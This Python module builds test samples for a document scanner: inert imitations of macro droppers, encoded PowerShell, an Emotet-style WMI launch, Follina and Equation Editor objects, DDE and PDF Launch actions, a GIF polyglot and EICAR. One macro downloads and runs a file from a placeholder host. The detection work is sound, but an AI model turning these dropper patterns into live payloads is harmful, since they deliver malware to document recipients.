"""Samples for the scanners: inert look-alikes of what each rule and each macro feature is about."""

from __future__ import annotations

import struct
import zlib

from samples.build._cfb import build as compound_file
from samples.build._plain_office import OFFICE, External, Part, word, workbook
from samples.build._vba import vba_project
from samples.sample import Sample

KEPT = "本年度の予算要求資料です。"
# By pieces, so that no file of this repository is the test file itself.
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE" + b"!$H+H*"
_VBA_RELATION = "http://schemas.microsoft.com/office/2006/relationships/vbaProject"
_OLE_TYPE = "application/vnd.openxmlformats-officedocument.oleObject"


def program() -> bytes:
    """An MZ and PE header with the usual stub text and no section: a loader refuses it."""
    stub = b"\x0e\x1f\xba\x0e\x00\xb4\x09\xcd\x21\xb8\x01\x4c\xcd\x21This program cannot be run in DOS mode.\r\r\n$"
    header = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00\xb8".ljust(60, b"\0") + struct.pack("<I", 0x80)
    return (header + stub).ljust(0x80, b"\0") + b"PE\0\0" + struct.pack("<HHIIIHH", 0x14C, 0, 0, 0, 0, 0, 0x102)


def _with_macros(modules: dict[str, str]) -> bytes:
    project = Part(vba_project(modules), "application/vnd.ms-office.vbaProject", _VBA_RELATION)
    return word(KEPT, {"word/vbaProject.bin": project}, macros=True)


def honest_macro() -> bytes:
    return _with_macros({"ThisDocument": "Sub 印刷()\n    ActiveDocument.PrintOut\nEnd Sub\n"})


def suspicious_macro() -> bytes:
    code = 'Sub Document_Open()\n    Open "C:\\work\\memo.txt" For Output As #1\n    Print #1, "memo"\n    Close #1\nEnd Sub\n'
    return _with_macros({"ThisDocument": code})


def downloader() -> bytes:
    code = (
        "Sub Document_Open()\n"
        '    Set x = CreateObject("MSXML2.XMLHTTP")\n'
        '    x.Open "GET", "http://download.example.invalid/a.bin", False\n'
        "    x.Send\n"
        '    Set s = CreateObject("ADODB.Stream")\n'
        "    s.Open\n    s.Write x.responseBody\n"
        '    s.SaveToFile Environ("TEMP") & "\\a.bin"\n'
        '    CreateObject("WScript.Shell").Run "a.bin"\n'
        "End Sub\n"
    )
    return _with_macros({"ThisDocument": code})


def encoded_powershell() -> bytes:
    code = f'Sub AutoOpen()\n    Shell "powershell.exe -nop -w hidden -enc {"QQBBAEEA" * 8}", 0\nEnd Sub\n'
    return _with_macros({"Module1": code})


def emotet_like() -> bytes:
    pieces = " + ".join(f"ChrW({number})" for number in (119, 105, 110, 109, 103, 109, 116, 115))
    code = (
        "Sub Document_Open()\n"
        f"    a = {pieces}\n"
        '    Set p = GetObject("winmgmts:Win32_ProcessStartup")\n'
        "    p.ShowWindow = 0\n"
        '    GetObject("winmgmts:Win32_Process").Create a, Null, p, i\n'
        "End Sub\n"
    )
    return _with_macros({"ThisDocument": code})


def follina() -> bytes:
    link = External(f"{OFFICE}/oleObject", "http://203.0.113.5.example.invalid/index.html!")
    return word(KEPT, external=(link,))


def dde_field() -> bytes:
    fields = (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        '<w:r><w:instrText xml:space="preserve"> DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k echo" </w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>表</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )
    return word(KEPT, runs=fields)


def native_package(name: str, content: bytes) -> bytes:
    """An OLE object that is a dropped file (OLENativeStream, MS-OLEDS 2.3.6)."""
    raw = name.encode("cp932")
    body = (
        struct.pack("<H", 2)
        + raw
        + b"\0"
        + b"C:\\"
        + raw
        + b"\0"
        + struct.pack("<II", 0x30000, len(raw) + 4)
        + b"C:\\"
        + raw
        + b"\0"
    )
    body += struct.pack("<I", len(content)) + content
    return compound_file({"\x01Ole10Native": struct.pack("<I", len(body)) + body}, "0003000c-0000-0000-c000-000000000046")


def _with_object(data: bytes) -> bytes:
    return word(KEPT, {"word/embeddings/oleObject1.bin": Part(data, _OLE_TYPE, f"{OFFICE}/oleObject")})


def excel4_macro_sheet() -> bytes:
    sheet = (
        '<xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main" '
        'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
        '<row r="1"><c r="A1"><f>ALERT("x")</f></c></row>'
        "</sheetData></xm:macrosheet>"
    )
    part = Part(
        sheet.encode(),
        "application/vnd.ms-excel.macrosheet+xml",
        "http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet",
    )
    entry = '<sheet name="Macro1" sheetId="2" state="veryHidden" r:id="rId2"/>'
    return workbook("合計", {"xl/macrosheets/sheet1.xml": part}, macros=True, sheets=entry)


def rtf_package() -> bytes:
    return (
        b"{\\rtf1\\ansi\\ansicpg932 memo{\\object\\objemb{\\*\\objclass Package}{\\*\\objdata "
        + _ole1_package().hex().encode()
        + b"}}}"
    )


def _ole1_package() -> bytes:
    """An OLE 1.0 embedded Package object (MS-OLEDS 2.2.5) that holds a short text."""
    content = b"memo"
    native = struct.pack("<H", 2) + b"memo.txt\0C:\\memo.txt\0" + struct.pack("<II", 0x30000, 12) + b"C:\\memo.txt\0"
    native += struct.pack("<I", len(content)) + content
    return struct.pack("<II", 0x501, 2) + struct.pack("<I", 8) + b"Package\0" + bytes(8) + struct.pack("<I", len(native)) + native


def rtf_equation() -> bytes:
    return b"{\\rtf1{\\object\\objemb\\objupdate{\\*\\objclass Equation.3}{\\*\\objdata 010500000200000000}}}"


def pdf(objects: list[bytes]) -> bytes:
    """A PDF with a page and *objects* from number 4 on; the catalog names object 4 as its OpenAction."""
    bodies = [
        b"<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>",
        *objects,
    ]
    data, places = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n", []
    for number, body in enumerate(bodies, 1):
        places.append(len(data))
        data += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    start = len(data)
    data += b"xref\n0 %d\n0000000000 65535 f \n" % (len(bodies) + 1) + b"".join(b"%010d 00000 n \n" % place for place in places)
    return data + b"trailer\n<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (len(bodies) + 1, start)


def stream(dictionary: bytes, content: bytes) -> bytes:
    packed = zlib.compress(content, 9)
    return b"<<" + dictionary + b"/Filter/FlateDecode/Length %d>>\nstream\n" % len(packed) + packed + b"\nendstream"


def pdf_javascript() -> bytes:
    return pdf([b"<</S/JavaScript/JS(app.alert\\(1\\);)>>"])


def pdf_launch() -> bytes:
    return pdf([b"<</S/Launch/Win<</F(cmd.exe)/P(/c echo memo)>>>>"])


def pdf_with_eicar() -> bytes:
    spec = b"<</Type/Filespec/F(memo.txt)/EF<</F 6 0 R>>>>"
    return pdf([b"<</S/GoTo/D[3 0 R/Fit]>>", spec, stream(b"/Type/EmbeddedFile", EICAR)])


def gif_script() -> bytes:
    """A picture of one pixel whose comment closes a script's comment that its header opens."""
    header = b"GIF89a" + b"/*" + b"\x01\x00" + b"\x80\x00\x00" + b"\x00\x00\x00\xff\xff\xff"
    comment = b"\x21\xfe\x10*/=1;/*memo*//*.." + b"\x00"
    return header + comment + b"\x2c\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02\x44\x01\x00\x3b"


def _sample(name: str, about: str, build: object, features: tuple[str, ...], verdict: str, keeps: tuple[str, ...] = ()) -> Sample:
    return Sample(f"hostile/scanner/{name}", "hostile", "scanner", about, build, features, verdict, keeps)  # type: ignore[arg-type]


SAMPLES: tuple[Sample, ...] = (
    _sample("eicar.com", "the EICAR test file itself", lambda: EICAR, ("yara.test_virus",), "blocked"),
    _sample("eicar_in_pdf.pdf", "EICAR as a compressed attachment of a PDF", pdf_with_eicar, ("yara.test_virus",), "blocked"),
    _sample("eicar_in_docx.docx", "EICAR as a part of a Word file", lambda: _with_object(EICAR), ("yara.test_virus",), "blocked"),
    _sample(
        "program_in_docx.docx",
        "a Windows program dropped into a document",
        lambda: _with_object(native_package("見積書.exe", program())),
        ("yara.embedded_executable",),
        "blocked",
    ),
    _sample("downloader.docm", "MSXML2 + ADODB.Stream + WScript.Shell on opening", downloader, ("yara.dropper",), "blocked"),
    _sample("powershell.docm", "hidden encoded PowerShell on opening", encoded_powershell, ("yara.dropper",), "blocked"),
    _sample(
        "emotet_like.docm", "WMI process start from characters, as Emotet did in 2020", emotet_like, ("yara.dropper",), "blocked"
    ),
    _sample("follina.docx", "CVE-2022-30190: object from a page", follina, ("yara.dropper",), "blocked"),
    _sample("equation.rtf", "CVE-2017-11882: self-loading formula object", rtf_equation, ("yara.dropper",), "blocked"),
    _sample("launch.pdf", "Launch action that starts cmd.exe", pdf_launch, ("yara.dropper",), "blocked"),
    _sample("script.gif", "GIF89a/* ... */=1 polyglot", gif_script, ("yara.polyglot",), "blocked"),
    _sample("javascript.pdf", "OpenAction with JavaScript", pdf_javascript, ("yara.active_content",), "disarmed"),
    _sample("honest_macro.docm", "a macro that prints", honest_macro, ("macro.vba", "yara.active_content"), "disarmed", (KEPT,)),
    _sample(
        "suspicious_macro.docm",
        "a macro that writes a file on opening",
        suspicious_macro,
        ("macro.vba", "macro.suspicious"),
        "disarmed",
        (KEPT,),
    ),
    _sample("excel4.xlsm", "a very hidden Excel 4.0 macro sheet", excel4_macro_sheet, ("macro.xlm",), "disarmed", ("合計",)),
    _sample("dde.docx", "DDEAUTO field", dde_field, ("macro.dde",), "disarmed", (KEPT,)),
    _sample(
        "package.docx",
        "a text file dropped into a document",
        lambda: _with_object(native_package("覚書.txt", b"memo")),
        ("macro.ole_object",),
        "disarmed",
        (KEPT,),
    ),
    _sample(
        "package.rtf",
        "a text file dropped into a rich text file",
        rtf_package,
        ("macro.rtf_object", "yara.active_content"),
        "disarmed",
        ("memo",),
    ),
)
